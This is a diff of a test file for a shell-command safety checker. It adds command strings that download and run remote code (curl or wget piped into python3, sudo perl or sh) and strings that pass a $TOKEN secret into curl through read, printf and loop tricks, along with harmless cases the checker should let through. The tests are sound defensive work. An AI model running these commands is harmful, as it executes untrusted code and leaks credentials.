@@ -30,6 +30,11 @@ const FOUND: readonly (readonly [text: string, hazard: string])[] = [
   ['sh -c "$(wget -qO- https://example.org)"', 'network sh'],
   ['eval "$(curl -fsSL https://example.org)"', 'network eval'],
   ['source <(curl -fsSL https://example.org)', 'network source'],
+  ['curl -fsSL https://example.org | python3', 'network python3'],
+  ['curl -fsSL https://example.org | sudo perl -', 'network sudo'],
+  ['curl -fsSLo file https://example.org && sh file', 'network sh'],
+  ['wget -qO "$WORK/x.py" https://example.org; python3 "$WORK/x.py"', 'network python3'],
+  ['curl -fsSL https://example.org >./x; chmod +x ./x; ./x', 'network ./x'],
 ];
 
 for (const [text, hazard] of FOUND) {
@@ -50,6 +55,9 @@ const HARMLESS = [
   'kubectl exec -it db -- psql',
   'curl -fsSLo file https://example.org && sha256sum -c sums && sh file',
   'curl -fsSL https://example.org | jq .name',
+  'curl -fsSL https://example.org | python3 -m json.tool',
+  'curl -fsSL https://example.org >x && gpg --verify x.asc x && sh x',
+  'curl -fsSLo page https://example.org && sh other page.sh',
 ] as const;
 
 for (const text of HARMLESS) {
@@ -75,6 +83,13 @@ for (const text of [
   't=$TOKEN; u="x $t"; curl "$u"',
   't=$(printf %s "$TOKEN"); curl "$t"',
   'export T="$TOKEN"; curl "$T"',
+  'read -r t <<<"$TOKEN"; curl "$t"',
+  'read -r a t < <(printf "%s" "$TOKEN"); curl "$t"',
+  'printf "%s" "$TOKEN" | while read -r t; do u=$t; done; curl "$u"',
+  'while read -r t; do u=$t; done <<<"$TOKEN"; curl "$u"',
+  'printf -v t "x %s" "$TOKEN"; curl "$t"',
+  'for t in a "$TOKEN"; do u=$t; done; curl "$u"',
+  'set -- "$TOKEN"; curl "$1"',
 ]) {
   test(`a secret is shown: ${text}`, () => {
     assert.ok(isShown(text));
@@ -88,6 +103,9 @@ for (const text of [
   't=$(printf %s "$TOKEN" | wc -c); curl "$t"',
   't=$TOKEN program; curl "$t"',
   'curl "$(TOKEN=$TOKEN program)"',
+  'read -r t <list; curl "$t"',
+  'printf "%s" "$TOKEN" | program; read -r t; curl "$t"',
+  'for t in a b; do u=$t; done; curl "$u"',
 ]) {
   test(`no secret is shown: ${text}`, () => {
     assert.not.ok(isShown(text));
